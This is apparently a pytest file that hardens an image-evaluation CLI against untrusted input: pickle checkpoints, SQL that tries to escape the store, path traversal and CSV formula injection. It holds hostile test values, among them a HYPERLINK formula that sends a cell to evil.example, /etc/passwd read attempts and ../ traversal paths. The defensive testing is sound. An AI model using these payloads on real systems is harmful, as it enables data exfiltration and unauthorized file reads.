"""Untrusted files, end to end through the CLI: pickles, SQL, paths, CSV formulas.

Already covered elsewhere (not repeated here): the library's pickle refusal and the
`weights_only=True` refusal of a malicious pickle (test_checkpoints_toml), the
dashboard SQL page's statement filter, file ban, row and time limits
(test_dashboard_queries, test_dashboard_app), `dashboard.queries.image_file` refusing
``../`` and absolute paths and symlinks out (test_dashboard_queries).
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner
from support.hardening import REPO, run_atelier, tiny_models, write_catalog

from evaluator.cli.main import main

# Real subprocesses, kills, full disks: minutes in all, so outside the quick subset.
pytestmark = pytest.mark.slow

CORPUS = REPO / "tests" / "corpus"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture(scope="module")
def models(tmp_path_factory):
    return tiny_models(tmp_path_factory)


def _store_with_rows(root: Path) -> Path:
    from evaluator.workspace.store import open_store, transaction

    root.mkdir(parents=True, exist_ok=True)
    with open_store(root / "atelier.duckdb") as con, transaction(con):
        con.execute("INSERT INTO artists (artist_id, name, notes) VALUES ('claude-monet', 'Claude Monet', ?)", [FORMULA])
    return root


# ------------------------------------------------------------------ pickles


def _plan(root: Path, checkpoint: str) -> Path:
    from catalog.plan import write_plan
    from catalog.units import WorkUnit

    unit = WorkUnit(checkpoint, "claude-monet", "style", "a painting by Claude Monet", "", 0, 64, 64, 2, 5.0, "default")
    return write_plan([unit], root / "plan.jsonl")


def test_pickle_checkpoint_is_refused_by_every_command_without_allow_pickle(models, tmp_path):
    shutil.copy(CORPUS / "checkpoints" / "tensors.ckpt", tmp_path / "model.ckpt")
    toml = tmp_path / "ck.toml"
    toml.write_text('[[checkpoint]]\nname = "pk"\nsource = "model.ckpt"\n')
    plan = _plan(tmp_path, "pk")
    wd = tmp_path / "wd"
    gen = run_atelier("generate", "--plan", str(plan), "--checkpoints", str(toml), "-w", str(wd), "--no-progress")
    assert gen.returncode != 0
    assert "--allow-pickle" in gen.stderr and "model.ckpt" in gen.stderr, gen.stderr
    assert not (wd / "images").exists() and not (wd / "manifests").exists()  # refused before any work
    listed = run_atelier("checkpoints", "list", str(toml))
    assert listed.returncode != 0 and "--allow-pickle" in listed.stderr
    printed = run_atelier("checkpoints", "fingerprint", str(toml))
    assert printed.returncode != 0 and "--allow-pickle" in printed.stderr
    # a pickled adapter (.pt LoRA) under a safetensors base is refused the same way
    shutil.copy(CORPUS / "checkpoints" / "tensors.ckpt", tmp_path / "style.pt")
    toml.write_text(f'[[checkpoint]]\nname = "pk"\nsource = "{models.base.as_posix()}"\nlora = [{{ path = "style.pt" }}]\n')
    adapter = run_atelier("checkpoints", "list", str(toml))
    assert adapter.returncode != 0 and "--allow-pickle" in adapter.stderr and "style.pt" in adapter.stderr, adapter.stderr


def test_malicious_pickle_never_runs_even_with_allow_pickle(tmp_path):
    shutil.copy(CORPUS / "checkpoints" / "evil.ckpt", tmp_path / "evil.ckpt")
    toml = tmp_path / "ck.toml"
    toml.write_text('[[checkpoint]]\nname = "evil"\nsource = "evil.ckpt"\nkind = "sd1"\n')
    plan = _plan(tmp_path, "evil")
    wd = tmp_path / "wd"
    gen = run_atelier("generate", "--plan", str(plan), "--checkpoints", str(toml), "-w", str(wd), "--no-progress",
                      "--allow-pickle")
    out = gen.stdout + gen.stderr
    assert "this pickle ran code" not in out  # the payload's print never ran
    # the checkpoint fails to load, named, and the unit is recorded as failed; nothing made
    assert "checkpoint failed to load" in out and "evil.ckpt" in out, out
    assert "1 failed" in gen.stdout and "0 made" in gen.stdout
    assert not (wd / "images").exists() or not list((wd / "images").rglob("*.png"))
    listed = run_atelier("checkpoints", "list", "--allow-pickle", str(toml))
    assert "this pickle ran code" not in listed.stdout + listed.stderr


# ------------------------------------------------------------------ SQL


@pytest.mark.parametrize(
    "query, expected",
    [
        ("SELECT * FROM read_csv('/etc/passwd')", "reads only the store"),
        ("SELECT * FROM read_text('/etc/hostname')", "reads only the store"),
        ("SELECT * FROM glob('/etc/*')", "reads only the store"),
        ("COPY (SELECT * FROM artists) TO '{out}'", "reads only the store"),
        ("ATTACH '{other}' AS o", "reads only the store"),
        ("SET enable_external_access = true", "locked"),
        ("DELETE FROM artists", "read-only"),
        ("CREATE TABLE x AS SELECT 1", "read-only"),
        ("INSTALL httpfs", "reads only the store"),
    ],
)
def test_sql_command_is_read_only_and_reads_no_other_file(tmp_path, query, expected):
    root = _store_with_rows(tmp_path / "wd")
    other = tmp_path / "other.duckdb"
    con = duckdb.connect(str(other))
    con.execute("CREATE TABLE secret AS SELECT 42 AS x")
    con.close()
    out = tmp_path / "leak.csv"
    result = run_atelier("sql", "--workdir", str(root), query.format(out=out, other=other))
    assert result.returncode != 0, result.stdout
    assert expected in result.stderr, result.stderr
    assert not out.exists()
    assert "postgres" not in result.stdout and "root:" not in result.stdout
    # the store is untouched and still answers
    ok = run_atelier("sql", "--workdir", str(root), "SELECT count(*) AS n FROM artists")
    assert ok.returncode == 0 and ok.stdout.split()[-1] == "1"


# ------------------------------------------------------------------ paths


@pytest.mark.parametrize("bad", ["../../etc/passwd", "/etc/passwd", "images/../../outside.png"])
def test_manifest_paths_outside_the_workdir_are_refused_and_nothing_is_read(models, tmp_path, bad):
    from datetime import datetime

    from PIL import Image

    from catalog.units import WorkUnit
    from evaluator.workspace.manifest import write_shard

    root = tmp_path / "wd"
    (tmp_path / "outside.png").parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (16, 16), "red").save(tmp_path / "outside.png")
    root.mkdir(parents=True)
    write_catalog(root / "styles.csv")
    unit = WorkUnit("base", "claude-monet", "style", "a painting", "", 0, 64, 64, 2, 5.0, "default")
    good = WorkUnit("base", "claude-monet", "style", "a painting", "", 1, 64, 64, 2, 5.0, "default")
    (root / "images").mkdir()
    Image.new("RGB", (16, 16), "blue").save(root / "images" / "good.png")
    now = datetime(2026, 1, 1)
    rows = [
        {**good.to_dict(), "source": "generated", "path": "images/good.png", "run_id": "gen-1", "created_at": now},
        {**unit.to_dict(), "source": "generated", "path": bad, "run_id": "gen-1", "created_at": now},
    ]
    write_shard(rows, root / "manifests" / "gen-1" / "rank0-part00000.parquet")
    result = run_atelier("score", "-w", str(root), "--model", str(models.clip), "--catalog", str(root / "styles.csv"),
                         "--num-workers", "0", "-q")
    assert result.returncode != 0
    assert "rank0-part00000.parquet" in result.stderr and repr(bad) in result.stderr, result.stderr
    assert "outside the workdir" in result.stderr
    assert not (root / "atelier.duckdb").exists() or _count(root, "images") == 0
    assert not (root / "embeddings").exists() or not list((root / "embeddings").rglob("part-*.parquet"))


def _count(root: Path, table: str) -> int:
    con = duckdb.connect(str(root / "atelier.duckdb"), read_only=True)
    try:
        return con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        con.close()


def test_import_labels_naming_files_outside_the_source_read_nothing(tmp_path):
    from PIL import Image

    src = tmp_path / "src"
    src.mkdir()
    Image.new("RGB", (16, 16), "green").save(src / "ok.png")
    (tmp_path / "secret.png").write_bytes((src / "ok.png").read_bytes())
    (src / "labels.csv").write_text("file,artist\nok.png,Claude Monet\n../secret.png,Claude Monet\n/etc/passwd,Claude Monet\n")
    result = CliRunner().invoke(main, ["import", str(src), "-w", str(tmp_path / "wd"), "--no-progress",
                                       "--catalog", str(write_catalog(tmp_path / "styles.csv"))])
    assert result.exit_code == 0, result.output
    con = duckdb.connect(str(tmp_path / "wd" / "atelier.duckdb"), read_only=True)
    try:
        paths = [r[0] for r in con.execute("SELECT path FROM images").fetchall()]
    finally:
        con.close()
    assert len(paths) == 1 and paths[0].startswith("imported/")
    assert "../secret.png" in result.output and "/etc/passwd" in result.output  # named as missing


def test_gallery_refuses_a_store_row_pointing_outside(tmp_path):
    """A row written straight into the store (not via a manifest) is still never served."""
    from PIL import Image

    from dashboard.queries import Store, gallery_images, image_file
    from evaluator.workspace.store import open_store, transaction

    root = tmp_path / "wd"
    (root / "images").mkdir(parents=True)
    Image.new("RGB", (8, 8), "blue").save(root / "images" / "ok.png")
    Image.new("RGB", (8, 8), "red").save(tmp_path / "outside.png")
    (root / "images" / "link.png").symlink_to(tmp_path / "outside.png")
    with open_store(root / "atelier.duckdb") as con, transaction(con):
        for i, path in enumerate(["images/ok.png", "../../etc/passwd", str(tmp_path / "outside.png"), "images/link.png"]):
            con.execute(
                "INSERT INTO images (image_id, unit_id, source, checkpoint, artist_id, template, seed, path, thumb_path) "
                "VALUES (?, ?, 'generated', 'base', 'claude-monet', 'style', 0, ?, ?)", [i, f"u{i}", path, path])
    store = Store.at(root, use_cache=False)
    frame = gallery_images(store, ["claude-monet"], "style", 0)
    served = {row.path: image_file(root, row.path) for row in frame.itertuples()}
    assert served["images/ok.png"] == (root / "images" / "ok.png").resolve()
    assert served["../../etc/passwd"] is None
    assert served[str(tmp_path / "outside.png")] is None
    assert served["images/link.png"] is None


# ------------------------------------------------------------------ CSV formulas


def test_formula_in_a_catalog_note_passes_validation_with_a_warning_and_is_neutralized_in_exports(models, tmp_path):
    from support.scoring import make_workdir

    from dashboard.queries import Store, csv_bytes, run_user_sql
    from evaluator.scoring.run import ScoreConfig, score

    catalog = write_catalog(tmp_path / "styles.csv", notes={"claude-monet": FORMULA},
                            artists=[("claude-monet", "Claude Monet", "yes"), ("pablo-picasso", "Pablo Picasso", "no"),
                                     ("hokusai", "Hokusai", "no"), ("frida-kahlo", "Frida Kahlo", "no")])
    runner = CliRunner()
    validated = runner.invoke(main, ["catalog", "validate", str(catalog)])
    assert validated.exit_code == 0, validated.output
    assert "warning" in validated.output.lower() and "notes starts with '='" in validated.output
    root = tmp_path / "wd"
    make_workdir(root, checkpoints=("base",), seeds=(0,))
    score(root, ScoreConfig(model=str(models.clip), catalog_path=catalog, bootstrap=20, num_workers=0, progress=False))
    # the store keeps the text as written (it is data) ...
    con = duckdb.connect(str(root / "atelier.duckdb"), read_only=True)
    assert con.execute("SELECT notes FROM artists WHERE artist_id = 'claude-monet'").fetchone()[0] == FORMULA
    con.close()
    # ... the dashboard's CSV export neutralizes it ...
    result = run_user_sql(Store.at(root, use_cache=False), "SELECT artist_id, name, notes FROM artists ORDER BY artist_id")
    cells = list(csv.reader(io.StringIO(csv_bytes(result.frame).decode("utf-8"))))
    notes = {row[0]: row[2] for row in cells[1:]}
    assert notes["claude-monet"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
    # ... and so does `atelier sql --format csv`
    out = run_atelier("sql", "--workdir", str(root), "--format", "csv", "SELECT artist_id, notes FROM artists")
    assert out.returncode == 0, out.stderr
    cells = list(csv.reader(io.StringIO(out.stdout)))
    assert dict(cells[1:])["claude-monet"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in cells for cell in row)
